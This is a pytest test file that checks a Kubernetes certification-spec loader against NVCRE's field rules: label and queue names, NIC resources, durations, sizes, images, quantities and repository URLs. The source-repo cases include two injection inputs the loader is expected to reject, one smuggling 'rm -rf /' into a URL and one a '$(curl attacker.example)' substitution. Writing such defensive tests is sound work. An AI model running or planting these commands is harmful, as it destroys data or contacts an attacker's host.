"""Files NVCRE accepts load, files it rejects do not (issue 9 item 16): every field whose CRD carries a pattern,
a length limit or a CEL rule, tested at its boundaries (docs/nvcre-field-rules.md lists the rules and their source).

The cases are written out by hand from NVCRE's rules: empty, 63 and 64 characters per name segment, a 253- and a
254-character prefix, a trailing hyphen, the reserved domains. None is computed by the code under test."""

from __future__ import annotations

import copy
from pathlib import Path

import pytest
import yaml

from nvcre_hera.errors import InputError
from nvcre_hera.spec_load import parse_certification

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "certification.yaml"
BASE: dict = yaml.safe_load(EXAMPLE.read_text())
A63, A64 = "a" * 63, "a" * 64
PREFIX253 = ".".join(["b" * 63, "c" * 63, "d" * 63, "e" * 61])  # 63+1+63+1+63+1+61 = 253 characters
PREFIX254 = PREFIX253 + "f"
assert len(PREFIX253) == 253 and len(PREFIX254) == 254


def _load(mutate) -> object:
    data = copy.deepcopy(BASE)
    mutate(data)
    return parse_certification(yaml.safe_dump(data, sort_keys=False), "cert.yaml")


def _gang(**fields):
    return lambda d: d["spec"].__setitem__("gangScheduler", {"schedulerName": "kai-scheduler", **fields})


def _option(**fields):
    return lambda d: d["spec"]["options"].update(fields)


def _labels(labels: dict):
    return lambda d: d["spec"]["options"].__setitem__("workloadMetadata", {"labels": labels})


# (field, value, NVCRE accepts it?)
QUEUE_LABEL_KEY = [
    ("", True), ("q", True), (A63, True), (A64, False), ("runai/queue", True), ("kai.scheduler/queue", True),
    (f"x/{A63}", True), (f"x/{A64}", False), (f"{PREFIX253}/q", True), (f"{PREFIX254}/q", False),
    ("queue-", False), ("-queue", False), ("x-/queue", False), ("/queue", False), ("x/", False),
    ("Upper.Case/queue", False), ("a_b/queue", False), ("x/q_u.e-ue", True),
]
QUEUE = [("", True), ("team-a", True), (A63, True), (A64, False), ("team-", False), ("a/b", False),
         ("Team_A.1", True)]
NIC_RESOURCE = [
    ("rdma/ib", True), ("nvidia.com/mlnxnics", True), (f"rdma/{A63}", True), (f"rdma/{A64}", False),
    ("rdma/ib-", False), ("ib", False), ("", False), ("Rdma/ib", False), ("rdma/", False),
    ("kubernetes.io/ib", False), ("foo.kubernetes.io/ib", False), ("foo-kubernetes.io/ib", False),
    ("k8s.io/ib", False), ("foo.k8s.io/ib", False), ("fook8s.io/ib", True),
    (f"{'d' * 63}.{'e' * 63}.{'f' * 63}/{'g' * 61}", True), (f"{'d' * 63}.{'e' * 63}.{'f' * 63}/{'g' * 62}", False),
]
LABEL_KEY = [
    ("team", True), (A63, True), (A64, False), (f"example.com/{A63}", True), (f"example.com/{A64}", False),
    (f"{PREFIX253}/k", True), (f"{PREFIX254}/k", False), ("team-", False), ("", False), ("example.com/", False),
    ("kueue.x-k8s.io/queue-name", True), ("app.kubernetes.io/managed-by", False), ("nvcre.nvidia.com/x", False),
]
LABEL_VALUE = [("", True), ("v", True), (A63, True), (A64, False), ("v-", False), ("v_1.2", True), ("a/b", False)]
DURATION = [("1h", True), ("15m", True), ("1h30m", True), ("500ms", True), ("90s", True), ("1.5h", False),
            ("90", False), ("1d", False), ("1H", False), ("", False), ("1h 30m", False)]
STORAGE_SIZE = [("10Ti", True), ("500Gi", True), ("1.5Ti", True), ("100", True), ("10TB", False),
                ("10ti", False), ("10 Ti", False), ("", False), (".5Ti", False)]
IMAGE = [("nvcr.io/nvidia/pytorch:25.08-py3", True), ("r/" + "i" * 510, True), ("r/" + "i" * 511, False),
         ("", False)]
QUANTITY = [("64", True), ("1500m", True), ("800Gi", True), ("1" * 32, True), ("1" * 33, False), ("-1", False)]


def _verdict(mutate) -> bool:
    try:
        _load(mutate)
    except InputError:
        return False
    return True


@pytest.mark.parametrize(("value", "accepted"), QUEUE_LABEL_KEY, ids=lambda v: str(v)[:24])
def test_gang_scheduler_queue_label_key(value: str, accepted: bool) -> None:
    assert _verdict(_gang(queueLabelKey=value)) is accepted


@pytest.mark.parametrize(("value", "accepted"), QUEUE, ids=lambda v: str(v)[:24])
def test_gang_scheduler_queue(value: str, accepted: bool) -> None:
    assert _verdict(_gang(queue=value)) is accepted


def test_empty_queue_and_key_resolve_to_nvcre_defaults() -> None:
    # NVCRE: an empty queue is "default-queue", an empty queueLabelKey "kai.scheduler/queue" (resolved in code)
    gang = _load(_gang(queue="", queueLabelKey="")).spec.gang_scheduler
    assert (gang.queue, gang.queue_label_key) == ("default-queue", "kai.scheduler/queue")


@pytest.mark.parametrize(("value", "accepted"), NIC_RESOURCE, ids=lambda v: str(v)[:24])
@pytest.mark.parametrize("where", ["global", "category"])
def test_nic_resource_name(value: str, accepted: bool, where: str) -> None:
    mutate = _option(nicResourceName=value) if where == "global" else \
        (lambda d: d["spec"]["categories"][0].__setitem__("options", {"nicResourceName": value}))
    assert _verdict(mutate) is accepted


@pytest.mark.parametrize(("key", "accepted"), LABEL_KEY, ids=lambda v: str(v)[:24])
def test_workload_metadata_label_key(key: str, accepted: bool) -> None:
    assert _verdict(_labels({key: "v"})) is accepted


@pytest.mark.parametrize(("value", "accepted"), LABEL_VALUE, ids=lambda v: str(v)[:24])
def test_workload_metadata_label_value(value: str, accepted: bool) -> None:
    assert _verdict(_labels({"team": value})) is accepted


def test_workload_metadata_at_most_32_labels() -> None:
    assert _verdict(_labels({f"k{i}": "v" for i in range(32)})) is True
    assert _verdict(_labels({f"k{i}": "v" for i in range(33)})) is False


@pytest.mark.parametrize(("value", "accepted"), DURATION, ids=lambda v: str(v)[:24])
@pytest.mark.parametrize("field", ["timeoutPerJob", "measurementTimeout"])
def test_durations(field: str, value: str, accepted: bool) -> None:
    assert _verdict(_option(**{field: value})) is accepted


@pytest.mark.parametrize(("value", "accepted"), STORAGE_SIZE, ids=lambda v: str(v)[:24])
def test_storage_size(value: str, accepted: bool) -> None:
    assert _verdict(_option(storageSize=value)) is accepted


@pytest.mark.parametrize(("value", "accepted"), IMAGE, ids=lambda v: str(v)[:24])
def test_image(value: str, accepted: bool) -> None:
    assert _verdict(_option(image=value)) is accepted


@pytest.mark.parametrize(("value", "accepted"), QUANTITY, ids=lambda v: str(v)[:24])
@pytest.mark.parametrize("side", ["limits", "requests"])
def test_resource_quantities(side: str, value: str, accepted: bool) -> None:
    other = "requests" if side == "limits" else "limits"
    big = "9" * 32  # the other side never decides the verdict: requests <= limits holds for every case
    resources = {side: {"cpu": value}, other: {"cpu": big if other == "limits" else "0"}}
    assert _verdict(_option(resources=resources)) is accepted


SOURCE_REPO = [
    ("https://github.com/NVIDIA/Megatron-LM.git", True), ("ssh://git@github.com/NVIDIA/Megatron-LM.git", True),
    ("https://mirror.example.com:8443/a/b%20c.git", True), ("https://h/" + "r" * 2038, True),
    ("https://h/" + "r" * 2039, False), ("http://github.com/x.git", False), ("git://github.com/x.git", False),
    ("git@github.com:NVIDIA/Megatron-LM.git", False), ("file:///srv/x.git", False),
    ("https://host/repo.git;rm -rf /", False), ("$(curl attacker.example)", False), ("", False),
]


@pytest.mark.parametrize(("url", "accepted"), SOURCE_REPO, ids=lambda v: str(v)[:24])
@pytest.mark.parametrize("form", ["string", "object"])
def test_source_repo(url: str, accepted: bool, form: str) -> None:
    value = url if form == "string" else {"url": url}  # NVCRE writes the string; ours also takes {url, ref}
    assert _verdict(lambda d: d["spec"]["categories"][1].__setitem__("options", {"sourceRepo": value})) is accepted


def test_source_repo_string_clones_that_url() -> None:
    cert = _load(lambda d: d["spec"]["categories"][1].__setitem__(
        "options", {"sourceRepo": "https://mirror.example.com/Megatron-LM.git"}))
    from nvcre_hera.spec_load import resolve_categories
    (training,) = [c for c in resolve_categories(cert) if c.key == "training/nemotron5-8b"]
    assert training.options["sourceRepo"] == {"url": "https://mirror.example.com/Megatron-LM.git"}


@pytest.mark.parametrize("field", ["nodesPerJob", "exitDurationMins", "startupStallTimeoutSeconds", "saveInterval",
                                   "saveRetainInterval", "saveTopK", "numIterations", "numCycles", "minGroupSize"])
def test_minimum_one(field: str) -> None:
    assert _verdict(_option(**{field: 1})) is True
    assert _verdict(_option(**{field: 0})) is False


@pytest.mark.parametrize("field", ["mlnxPerNode", "maxRestarts"])
def test_minimum_zero(field: str) -> None:
    assert _verdict(_option(**{field: 0})) is True
    assert _verdict(_option(**{field: -1})) is False
